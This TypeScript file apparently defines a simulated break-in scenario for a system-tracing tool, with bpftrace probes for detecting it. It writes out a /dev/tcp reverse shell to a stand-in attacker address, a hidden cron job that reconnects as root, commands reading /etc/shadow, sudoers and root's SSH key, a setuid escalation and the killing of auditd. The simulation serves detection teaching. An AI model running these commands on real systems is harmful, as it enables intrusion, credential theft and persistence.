import { NETWORK } from "../net/machine-net.ts";
import { type ConnectionHandlers, listenAt } from "../net/remote/connection.ts";
import { interactiveBash } from "../programs/bash.ts";
import { NGINX } from "../programs/nginx.ts";
import { SSHD } from "../programs/services.ts";
import { runLine } from "../programs/shell.ts";
import type { Thread } from "../thread.ts";
import type { Code } from "../world/wait.ts";
import { scenario } from "./scenario.ts";
import { addUsualServices } from "./usual-services.ts";

const ATTACKER = "203.0.113.66";
const SHELL_PORT = 4_444;
const COMMANDS = ["id", "uname -a", "cat /etc/passwd", "cat /etc/shadow", "ls /home/alice", "/usr/bin/pkexec-helper", "cat /etc/shadow", "cat /etc/sudoers", "cat /root/.ssh/id_ed25519"]; // biome-ignore format: one list
const TYPED = ["ls -l", "cat notes.txt", "date", "grep error /var/log/syslog", "id"];
const STEP_MS = 90;

/** A break-in: a web shell, a shell back to the attacker, stolen passwords, a cron job that stays. */
export const intrusion = scenario(
  "intrusion",
  {
    summary: "passwords are guessed at sshd, a web server is made to start a shell, which becomes root",
    tryWith: [
      "execsnoop -U",
      "-e 'tracepoint:syscalls:sys_enter_setuid { printf(\"SETUID: pid=%d comm=%s uid=%d -> %d\\n\", pid, comm, uid, args.uid); }'",
      '-e \'tracepoint:syscalls:sys_enter_openat /str(args.filename) == "/etc/shadow" || str(args.filename) == "/etc/sudoers"/ { printf("SENSITIVE FILE: %s (pid=%d uid=%d) opened %s\\n", comm, pid, uid, str(args.filename)); }\'',
      "-e 'tracepoint:signal:signal_generate { printf(\"%s (pid %d) sent signal %d to pid %d\\n\", comm, pid, args.sig, args.pid); }'",
      "-e 'uretprobe:/bin/bash:readline { printf(\"cmd: %s\\n\", str(retval)); }'",
    ],
    hostName: "web-2",
  },
  (machine) => {
    addUsualServices(machine);
    machine.file("/root/.ssh/id_ed25519", { size: 411, mode: 0o600 });
    machine.file("/etc/shadow", { size: 1_024, mode: 0o640 });
    machine.file("/home/alice/notes.txt", { size: 730, uid: 1000 });
    machine.program("/usr/bin/pkexec-helper", () => (p) => becomeRoot(p));
    const host = machine.host({ address: ATTACKER, latency: "60 ms", jitter: "5 ms" });
    listenAt(host.stack, SHELL_PORT, () => attacker());
    machine.at("20 ms", () => void machine.world.get(NETWORK).stack);
    machine.start(SSHD.path, sshd, { cgroup: "/system.slice/ssh.service" });
    machine.remote(ATTACKER).connectTo(22, { perSecond: 4, after: "120 ms", send: "root:hunter2\n" });
    machine.start(NGINX.path, webServer, { uid: 33, cgroup: "/system.slice/nginx.service", at: "5 ms" });
    machine.start("/usr/sbin/auditd", auditor, { at: "8 ms" });
    const home = { uid: 1000, loginUid: 1000, cgroup: "/user.slice/user-1000.slice" };
    machine.start("/usr/bin/bash", administrator, { ...home, at: "60 ms" });
  },
);

/** Types commands one after the other, as soon as the shell asks. */
function attacker(): ConnectionHandlers {
  let next = 0;
  return {
    data(connection) {
      connection.write(`${COMMANDS[next] ?? "exit"}\n`);
      next++;
    },
  };
}

/** Forks for each connection, reads the password file, says no. */
function* sshd(p: Thread): Code {
  const listener = yield* p.listen(22);
  for (;;) {
    const fd = yield* p.accept(listener);
    if (fd < 0) {
      yield* p.sleep("10 ms");
      continue;
    }
    const child = yield* p.fork(function* (session) {
      yield* session.recv(fd);
      yield* session.enter("do_authentication2", [], () =>
        session.enter("auth_password", [], function* () {
          yield* session.readFile("/etc/shadow");
          yield* session.compute("9 ms"); // the hash is made to be slow
          return 0;
        }),
      );
      yield* session.send(fd, "Permission denied\n");
    });
    yield* p.close(fd);
    yield* p.wait(child);
  }
}

/** Serves nothing of note; after a while a request makes it start a shell. */
function* webServer(p: Thread): Code {
  for (;;) {
    yield* p.sleep("450 ms");
    const child = yield* p.fork(function* (shell) {
      yield* shell.exec("/bin/sh", ["sh", "-i"], { body: reverseShell });
    });
    yield* p.wait(child);
    yield* p.sleep("2 s");
  }
}

/** `sh -i >& /dev/tcp/203.0.113.66/4444 0>&1` */
function* reverseShell(p: Thread): Code {
  const fd = yield* p.connect(`${ATTACKER}:${SHELL_PORT}`);
  if (fd < 0) return;
  for (const standard of [0, 1, 2]) yield* p.dup2(fd, standard);
  for (;;) {
    yield* p.write(1, "$ ");
    const line = yield* p.recvFrom(0, 4_096);
    if (typeof line === "number" || line.bytes.length === 0) return;
    const text = new TextDecoder().decode(line.bytes).trim();
    if (text === "exit") return;
    yield* p.sleep(STEP_MS * 1e6);
    yield* runLine(p, text);
  }
}

/** A program with the set-user-id bit and a mistake in it. */
function* becomeRoot(p: Thread): Code {
  const { process } = p.task;
  yield* p.setuid(0); // refused
  process.credentials = { ...process.credentials, euid: 0 };
  yield* p.compute("300 us");
  yield* p.setuid(0);
  yield* p.readFile("/etc/shadow");
  yield* p.readFile("/etc/sudoers");
  yield* p.writeFile(
    "/etc/cron.d/.update",
    `* * * * * root sh -c 'exec 3<>/dev/tcp/${ATTACKER}/${SHELL_PORT}'\n`,
  );
  const auditd = p.task.world.processes.all.find(({ comm }) => comm === "auditd");
  if (auditd !== undefined) yield* p.kill(auditd.pid, "SIGKILL");
}

function* auditor(p: Thread): Code {
  for (;;) {
    yield* p.sleep("150 ms");
    yield* p.writeFile("/var/log/audit/audit.log", 600);
  }
}

/** Somebody who works at the machine and notices nothing. */
function* administrator(p: Thread): Code {
  yield* p.chdir("/home/alice");
  function* lines() {
    for (;;) yield p.random().pick(TYPED);
  }
  yield* interactiveBash(p, lines, (thread) => Math.round(thread.random().exponential(500e6)));
}
